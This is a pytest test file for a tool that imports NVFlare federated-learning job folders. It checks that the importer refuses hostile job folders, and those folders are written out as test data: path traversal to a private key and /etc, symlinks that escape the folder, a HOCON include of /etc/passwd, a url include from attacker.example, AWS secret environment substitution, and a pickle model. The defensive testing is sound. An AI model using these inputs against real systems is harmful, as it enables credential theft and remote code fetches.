"""A hostile NVFlare job folder given to ``flare-airflow import-nvflare`` (issue 35, item 3).

A job folder is untrusted input (downloaded, shared by a collaborator). Each case runs the command
as the console script does and asserts: exit 2, the error names what and where (``FILE:LINE``
where a line exists), no traceback, nothing outside the job folder read (a secret beside it never
reaches ``--out``), and ``--out`` exactly as it was (all or nothing; files already there
untouched).
"""

from __future__ import annotations

import json
import pathlib
import pickle

import pytest

from flare_airflow.cli import main
from tests.bad_inputs.cases import Case, assert_clear

SECRET = "-----BEGIN PRIVATE KEY----- not-for-the-dags-folder\n"
META = {"name": "nv", "deploy_map": {"app": ["server", "site-1", "site-2"]}}
PERSISTOR = {"id": "persistor", "path": "nvflare.app_common.np.np_model_persistor.NPModelPersistor", "args": {}}
FEDAVG = {"id": "controller", "path": "nvflare.app_common.workflows.fedavg.FedAvg", "args": {"num_rounds": 2}}
EXECUTOR = "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor"
AGGREGATOR = "nvflare.app_common.aggregators.intime_accumulate_model_aggregator.InTimeAccumulateWeightedAggregator"
EXCLUDE_VARS = "nvflare.app_common.filters.exclude_vars.ExcludeVars"
SERVER_JSON = "nv/app/config/config_fed_server.json"
CLIENT_JSON = "nv/app/config/config_fed_client.json"
SERVER_CONF = "nv/app/config/config_fed_server.conf"


def _json(value: object) -> str:
    return json.dumps(value, indent=1)


def _server(workflow: dict | None = None, components: list | None = None) -> str:
    return _json({"workflows": [workflow or FEDAVG], "components": [PERSISTOR] if components is None else components})


def _client(args: dict | None = None, filters: list | None = None) -> str:
    executor = {"path": EXECUTOR, "args": args or {"task_script_path": "client.py"}}
    data: dict = {"executors": [{"tasks": ["*"], "executor": executor}]}
    if filters:
        data["task_result_filters"] = [{"tasks": ["train"], "filters": filters}]
    return _json(data)


def _persistor(model: object) -> str:
    return _server(components=[{**PERSISTOR, "args": {"model": model}}])


def _nested(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


# A HOCON server config; ``{extra}`` is a line put before its workflows.
HOCON = """\
{
  %s
  workflows = [{ id = "controller", path = "nvflare.app_common.workflows.fedavg.FedAvg", args { num_rounds = 2 } }]
  components = [{ id = "persistor", path = "nvflare.app_common.np.np_model_persistor.NPModelPersistor" }]
}
"""
BASE: dict[str, str | bytes | None] = {
    "nv/meta.json": _json(META),
    SERVER_JSON: _server(),
    CLIENT_JSON: _client(),
    "nv/app/custom/client.py": "import nvflare.client as flare\n",
    "secret.pem": SECRET,  # beside the job folder: must never be read into --out
    "outside/config/config_fed_server.json": _server(),
    "outside/config/config_fed_client.json": _client(),
    "outside/custom/client.py": "import nvflare.client as flare\n",
}
IMPORT = ["import-nvflare", "{dir}/nv", "--out", "{dir}/out"]

CASES: list[Case] = []
INPUTS: dict[str, tuple[dict[str, str | bytes | None], list[str]]] = {}


def case(id: str, bad_input: str, error: str, files: dict[str, str | bytes | None], argv: list[str] = IMPORT) -> None:
    """``files``: name -> text or bytes; ``None`` removes a BASE file; ``"->x"`` is a symlink to ``x``
    (``{dir}`` in it: the test's folder)."""
    CASES.append(Case(id, "cli", bad_input, error))
    INPUTS[id] = (files, argv)


# -- reading outside the job folder
case(
    "nvflare-app-name-climbs",
    "import-nvflare: the deploy_map names app ../outside (a folder beside the job)",
    "meta.json:4: deploy_map app '../outside' is not a folder name of the job",
    {"nv/meta.json": _json({**META, "deploy_map": {"../outside": ["server", "site-1"]}})},
)
case(
    "nvflare-app-name-absolute",
    "import-nvflare: the deploy_map names app /etc",
    "deploy_map app '/etc' is not a folder name of the job",
    {"nv/meta.json": _json({**META, "deploy_map": {"/etc": ["server", "site-1"]}})},
)
case(
    "nvflare-app-folder-links-out",
    "import-nvflare: the app folder is a symlink to a folder outside the job",
    "app folder 'app' leads outside the job folder",
    {SERVER_JSON: None, CLIENT_JSON: None, "nv/app/custom/client.py": None, "nv/app": "->{dir}/outside"},
)
case(
    "nvflare-meta-links-out",
    "import-nvflare: meta.json is a symlink to a file outside the job",
    "meta.json leads outside the job folder",
    {"nv/meta.json": "->{dir}/outside/meta.json", "outside/meta.json": _json(META)},
)
case(
    "nvflare-script-path-climbs",
    "import-nvflare: task_script_path ../../secret.pem",
    "config_fed_client.json:8: client script '../../secret.pem': it lies outside the client app's custom/ folder",
    {CLIENT_JSON: _client({"task_script_path": "../../secret.pem"})},
)
case(
    "nvflare-launcher-command-climbs",
    "import-nvflare: an external-process executor's command runs custom/../../../x.py",
    "client script 'custom/../../../x.py': it lies outside the client app's custom/ folder",
    {CLIENT_JSON: _client({"execution_mode": "external_process", "command": "python3 custom/../../../x.py"})},
)
case(
    "nvflare-script-links-out",
    "import-nvflare: custom/client.py is a symlink to a file outside the job",
    "client script client.py leads outside the job folder",
    {"nv/app/custom/client.py": "->{dir}/outside/custom/client.py"},
)
case(
    "nvflare-custom-file-links-out",
    "import-nvflare: custom/ holds a symlink to a private key outside the job",
    "custom/key.pem: a link in custom/ leads outside it",
    {"nv/app/custom/key.pem": "->{dir}/secret.pem"},
)
case(
    "nvflare-custom-dir-links-out",
    "import-nvflare: custom/ holds a symlink to a folder outside the job (a home directory)",
    "custom/home: a link in custom/ leads outside it",
    {"nv/app/custom/home": "->{dir}/outside"},
)
case(
    "nvflare-custom-link-loop",
    "import-nvflare: custom/ holds a symlink loop (a -> b -> a)",
    "a link in custom/ is a symlink loop",
    {"nv/app/custom/a": "->{dir}/nv/app/custom/b", "nv/app/custom/b": "->{dir}/nv/app/custom/a"},
)
case(
    "nvflare-custom-link-to-parent",
    "import-nvflare: custom/ holds a symlink to custom/ itself (a loop for whoever copies it)",
    "custom/self: a link in custom/ to its own folder or a parent of it",
    {"nv/app/custom/self": "->{dir}/nv/app/custom"},
)
# -- HOCON reaching beyond the file
case(
    "nvflare-hocon-include-file",
    'import-nvflare: HOCON include file("/etc/passwd") in config_fed_server.conf',
    "config_fed_server.conf:2: HOCON include: an imported job reads only its own folder's files and fetches nothing",
    {SERVER_JSON: None, SERVER_CONF: HOCON % 'include file("/etc/passwd")'},
)
case(
    "nvflare-hocon-include-url",
    'import-nvflare: HOCON include url("http://attacker.example/x.conf") (a fetch at import time)',
    "config_fed_server.conf:2: HOCON include",
    {SERVER_JSON: None, SERVER_CONF: HOCON % 'include required(url("http://attacker.example/x.conf"))'},
)
case(
    "nvflare-hocon-include-relative",
    'import-nvflare: HOCON include "../../secret.conf"',
    "config_fed_server.conf:2: HOCON include",
    {SERVER_JSON: None, SERVER_CONF: HOCON % 'include "../../secret.conf"'},
)
case(
    "nvflare-hocon-env-substitution",
    "import-nvflare: HOCON ${AWS_SECRET_ACCESS_KEY} (the importing user's environment into the job)",
    "config_fed_server.conf:2: HOCON substitution ${...}: refused, since pyhocon fills one it cannot resolve from "
    "the importing user's environment",
    {SERVER_JSON: None, SERVER_CONF: HOCON % "key = ${?AWS_SECRET_ACCESS_KEY}"},
)
# -- writing
case(
    "nvflare-out-has-hand-written-dag",
    "import-nvflare: --out already holds a hand-written nv_dag.py (no --force)",
    "nv_dag.py already there (a DAG file or site policy may have been edited by hand since); nothing was written",
    {"out/nv_dag.py": "# edited by hand\n"},
)
case(
    "nvflare-out-has-reviewed-site-policy",
    "import-nvflare: --out already holds a reviewed nv.site-policy.yaml (no --force)",
    "nv.site-policy.yaml already there",
    {
        "out/nv.site-policy.yaml": "# reviewed\n",
        CLIENT_JSON: _client(filters=[{"path": EXCLUDE_VARS, "args": {"exclude_vars": ["w"]}}]),
    },
)
case(
    "nvflare-force-over-symlinked-folder",
    "import-nvflare --force; --out/nv/ is a symlink to another folder",
    "nv is a symlink; --force replaces files in --out, never through a link",
    {"out/nv": "->{dir}/outside", "out/nv.yaml": "# an earlier import\n"},
    [*IMPORT, "--force"],
)
# -- values that used to crash or pass until run time
case(
    "nvflare-json-nested-deep",
    "import-nvflare: meta.json nested 100000 levels deep",
    "meta.json: nested deeper than 32 levels",
    {"nv/meta.json": _nested(100_000)},
)
case(
    "nvflare-hocon-nested-deep",
    "import-nvflare: config_fed_server.conf nested 40 levels deep",
    "config_fed_server.conf: nested deeper than 32 levels",
    {SERVER_JSON: None, SERVER_CONF: HOCON % ("deep = " + "{a = " * 40 + "1" + "}" * 40)},
)
case(
    "nvflare-inline-model-ragged",
    "import-nvflare: NPModelPersistor model [[1, 2], [3]]",
    "config_fed_server.json:14: persistor nvflare.app_common.np.np_model_persistor.NPModelPersistor model: it is "
    "ragged",
    {SERVER_JSON: _persistor([[1, 2], [3]])},
)
case(
    "nvflare-inline-model-string",
    'import-nvflare: NPModelPersistor model "1.5" (a string)',
    "model: it is str '1.5', not nested lists of numbers",
    {SERVER_JSON: _persistor("1.5")},
)
case(
    "nvflare-inline-model-overflows-float32",
    "import-nvflare: NPModelPersistor model [1e39] (infinity as float32)",
    "holds 1e+39, which float32 (NVFlare's model dtype) cannot hold as a finite number",
    {SERVER_JSON: _persistor([1e39])},
)
case(
    "nvflare-aggregation-weight-not-a-number",
    'import-nvflare: aggregation_weights {site-1: "heavy"}',
    "aggregation_weights['site-1']: is 'heavy', not a finite number >= 0",
    {SERVER_JSON: _server({**FEDAVG, "args": {"num_rounds": 2, "aggregation_weights": {"site-1": "heavy"}}})},
)
case(
    "nvflare-aggregation-weight-null",
    "import-nvflare: an aggregator's aggregation_weights {site-1: null}",
    "aggregation_weights['site-1']: is 'None', not a finite number >= 0",
    {
        SERVER_JSON: _server(
            {**FEDAVG, "args": {"num_rounds": 2, "aggregator_id": "agg"}},
            [PERSISTOR, {"id": "agg", "path": AGGREGATOR, "args": {"aggregation_weights": {"site-1": None}}}],
        )
    },
)
case(
    "nvflare-resource-spec-string",
    'import-nvflare: meta.json resource_spec {site-1: "big"}',
    "meta.json:6: resource_spec['site-1'] is str 'big', not an object",
    {"nv/meta.json": _json({**META, "resource_spec": {"site-1": "big"}})},
)
case(
    "nvflare-exclude-vars-bad-regex",
    "import-nvflare: an ExcludeVars filter's regex does not compile ('conv(')",
    "exclude_vars='conv(': not a regular expression (missing ), unterminated subpattern",
    {CLIENT_JSON: _client(filters=[{"path": EXCLUDE_VARS, "args": {"exclude_vars": "conv("}}])},
)
case(
    "nvflare-initial-model-pickle",
    "import-nvflare --initial-model model.pt, a pickle (torch.save)",
    "this is a pickle/torch.save payload; only safetensors files are accepted",
    {"model.pt": pickle.dumps({"w": [1.0]})},
    [*IMPORT, "--initial-model", "{dir}/model.pt"],
)
case(
    "nvflare-num-rounds-bool",
    "import-nvflare: FedAvg num_rounds: true",
    "config_fed_server.json:5: nvflare.app_common.workflows.fedavg.FedAvg num_rounds: is True",
    {SERVER_JSON: _server({**FEDAVG, "args": {"num_rounds": True}})},
)
case(
    "nvflare-script-args-unclosed-quote",
    "import-nvflare: task_script_args with an unclosed quote",
    "task_script_args: an unclosed quote",
    {CLIENT_JSON: _client({"task_script_path": "client.py", "task_script_args": "--lr '0.1"})},
)

case(
    "nvflare-filter-group-malformed",
    "import-nvflare: task_result_filters [{tasks: true, filters: [...]}] (found by a fuzz of every config value)",
    "task_result_filters[0]: tasks must be a list of task names and filters a list of components",
    {CLIENT_JSON: _json({**json.loads(_client()), "task_result_filters": [{"tasks": True, "filters": []}]})},
)


def build(tmp: pathlib.Path, files: dict[str, str | bytes | None]) -> None:
    for name, content in {**BASE, **files}.items():
        path = tmp / name
        if content is None:
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str) and content.startswith("->"):
            path.symlink_to(content[2:].replace("{dir}", str(tmp)))
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def snapshot(folder: pathlib.Path) -> dict[str, str]:
    """Every entry under ``folder`` (links not followed): a link's target, a file's text."""
    if not folder.exists():
        return {}
    found = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            found[rel] = "-> " + str(path.readlink())
        elif path.is_file():
            found[rel] = path.read_text(errors="replace")
        else:
            found[rel] = "/"
    return found


@pytest.mark.parametrize("bad_case", CASES, ids=lambda c: c.id)
def test_hostile_nvflare_job_folder_is_refused_and_nothing_written(
    bad_case: Case, tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET.strip())
    files, argv = INPUTS[bad_case.id]
    build(tmp_path, files)
    out = tmp_path / "out"
    before = (out.exists(), snapshot(out))
    code = main([a.replace("{dir}", str(tmp_path)) for a in argv])
    _, err = capsys.readouterr()
    assert code == 2, f"{bad_case.id}: exit {code}\n{err}"
    assert_clear(bad_case, err)
    assert (out.exists(), snapshot(out)) == before, f"{bad_case.id}: --out changed"
    assert (tmp_path / "outside" / "custom" / "client.py").read_text() == BASE["outside/custom/client.py"]


def test_the_base_job_of_this_battery_imports(tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The cases above differ from an importable job only by their bad input."""
    build(tmp_path, {"nv/app/custom/lib": "->{dir}/nv/app/custom/pkg", "nv/app/custom/pkg/util.py": "X = 1\n"})
    assert main([a.replace("{dir}", str(tmp_path)) for a in IMPORT]) == 0, capsys.readouterr().err
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == ["nv", "nv.yaml", "nv_dag.py"]
    assert (out / "nv" / "custom" / "lib").readlink() == pathlib.Path("pkg")  # a link inside custom/ stays inside
    assert SECRET not in "".join(snapshot(out).values())
    # --force replaces an earlier import (a folder by a folder), and leaves no staging folder behind
    assert main([a.replace("{dir}", str(tmp_path)) for a in [*IMPORT, "--force"]]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["nv", "nv.yaml", "nv_dag.py"]
